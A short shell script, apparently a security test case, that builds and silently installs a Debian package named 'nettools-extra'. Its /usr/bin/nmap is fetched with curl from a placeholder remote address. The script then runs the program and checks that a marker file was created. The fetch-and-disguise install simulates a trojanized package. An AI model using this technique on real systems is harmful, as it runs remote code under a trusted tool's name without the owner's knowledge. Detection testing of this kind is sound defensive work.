#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/p/DEBIAN /tmp/p/usr/bin
printf 'Package: nettools-extra\nVersion: 1\nArchitecture: all\nMaintainer: x <x@example.com>\nDescription: x\n' >/tmp/p/DEBIAN/control
curl -s -o /tmp/p/usr/bin/nmap http://203.0.113.10/programs/marker && chmod 755 /tmp/p/usr/bin/nmap
dpkg-deb -b /tmp/p /tmp/x.deb >/dev/null && dpkg -i /tmp/x.deb >/dev/null 2>&1
nmap
test -e /tmp/reached
took_place
